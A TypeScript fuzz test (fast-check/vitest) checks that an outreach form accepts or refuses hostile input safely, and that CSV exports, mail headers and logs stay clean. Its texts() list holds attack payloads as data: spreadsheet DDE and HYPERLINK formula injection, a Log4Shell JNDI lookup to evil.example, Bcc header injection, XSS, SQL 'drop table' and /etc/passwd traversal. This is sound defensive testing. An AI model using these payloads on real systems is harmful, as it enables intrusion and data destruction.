import fc from 'fast-check';
import { expect, it } from 'vitest';
import { pathTo } from '#app/addresses/paths.ts';
import { encryption } from '#services/encryption/encryption.ts';
import { isPlainAddress } from '#services/mail/message.ts';
import { startsFormula } from '#services/members/my-data/csv/shared.ts';
import { outreachForms } from '#services/outreach/outreach-forms.ts';
import { sheetOf } from '#services/outreach/sheet.ts';
import { submissions } from '#services/outreach/submissions.ts';
import { outreachSamples } from '../outreach.ts';
import { openAccounts, waitingMails } from './accounts.ts';
import { secret } from './site.ts';

const { visitor, db, logged } = await openAccounts();

// What is tried is the same in every run; all of it, or more, in parts by another number and seed.
const { ALL, RUNS = ALL === '1' ? '10000' : '150', SEED = '20261125' } = process.env;
const runs = { numRuns: Number(RUNS), seed: Number(SEED) };

const hostile = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...texts()) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 400 }) },
);

/** What fits, with some of it hostile: what was sent may be taken or refused, but never breaks anything. */
const sent = fc.constantFrom(...Object.entries(outreachSamples)).chain(([id, { screen, filled }]) =>
  fc.record({
    path: fc.constantFrom(pathTo(screen, 'en'), pathTo(screen, 'es')),
    fields: fc
      .dictionary(fc.constantFrom(...Object.keys(filled), 'key', 'token', 'fax', 'step', 'to', 'intent', '__proto__'), hostile, {
        maxKeys: 3,
      })
      .map((some) => new URLSearchParams({ intent: id, ...filled, ...some })),
  }),
);

it('whatever is sent is taken, or refused in words, and nothing of it runs anywhere', { timeout: 3_600_000 }, async () => {
  const counts = new Map<number, number>();
  await fc.assert(
    fc.asyncProperty(sent, async ({ path, fields }) => {
      const { status } = await visitor().post(path, fields);
      counts.set(status, (counts.get(status) ?? 0) + 1);
      expect([200, 303, 400, 413]).toContain(status);
    }),
    runs,
  );
  expect(counts.get(303)).toBeGreaterThan(10);
  const all = submissions({ db, sealing: encryption(secret, 'what visitors send'), forms: outreachForms });
  for (const form of outreachForms) {
    const csv = sheetOf(form, await all.open({ form: form.id }));
    for (const [, quoted, plain = ''] of csv.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)) {
      expect(quoted ?? plain).not.toMatch(startsFormula);
    }
  }
  for (const mail of await waitingMails(db)) {
    expect(isPlainAddress(mail.to)).toBe(true);
    if (mail.content.kind === 'letter') expect(mail.content.words.subject).not.toMatch(/[\r\n]/);
  }
  expect(logged.join('')).not.toMatch(/evil|"level":50/);
});

function texts(): string[] {
  return [
    '=cmd|" /C calc"!A0',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1',
    '\u200b=HYPERLINK("http://evil.example")',
    '＝1+1',
    'a@b.example\r\nBcc: all@evil.example',
    'a@b.example,c@evil.example',
    '"a b"@evil.example',
    'x\r\n\r\n<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    "'; drop table outreach_submission; --",
    `$${'{jndi:ldap://evil.example}'}`,
    '\u202egnp.exe',
    '\ud800',
    '\ufeff\u2028\u2029',
    '👩‍👩‍👧‍👦'.repeat(200),
    'a\u0301'.repeat(3_000),
    '../../../../etc/passwd',
    'x'.repeat(1_000_000),
    'x'.repeat(20_000),
    'é'.repeat(200_000),
    '0'.repeat(2_000),
    '[url=http://evil.example]x[/url] http://a.example http://b.example http://c.example',
    '',
    ' ',
  ];
}
